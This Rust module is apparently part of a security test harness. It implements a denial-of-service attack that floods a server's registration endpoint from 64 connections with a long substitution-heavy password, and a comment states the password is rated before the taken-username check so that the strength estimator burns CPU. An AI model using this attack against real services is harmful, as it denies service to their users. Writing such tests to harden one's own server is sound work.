//! Registrations with passwords that take long to rate, from as many connections as one address may have.

use tokio::task::JoinSet;

use crate::attacker::Attacker;
use crate::target::Target;

const CONNECTIONS: usize = 64;

pub(crate) async fn attack(mut target: Target) -> String {
    // The estimate tries all combinations of letters that these characters may stand for.
    let password: String = "4@8({[<369 1!|70$5+%2".chars().cycle().take(256).collect();
    let mut attackers = Vec::new();
    for _ in 0..CONNECTIONS {
        attackers.push(Attacker::connect(target.address).await);
    }
    target.begin().await;
    let mut tasks = JoinSet::new();
    for attacker in attackers {
        tasks.spawn(register_forever(attacker, password.clone(), target.clone()));
    }
    let replies: usize = tasks.join_all().await.into_iter().sum();
    format!("{replies} registrations were answered")
}

async fn register_forever(mut attacker: Attacker, password: String, mut target: Target) -> usize {
    let mut replies = 0;
    // The password is rated before the server finds that the name is taken, so the session stays signed out.
    let fields = format!(r#""type":"register","username":"pair.one","password":"{password}""#);
    while !target.is_over() {
        let reply = tokio::select! {
            reply = attacker.request(&fields) => reply,
            () = target.end() => break,
        };
        if reply.is_none() {
            break;
        }
        replies += 1;
    }
    replies
}
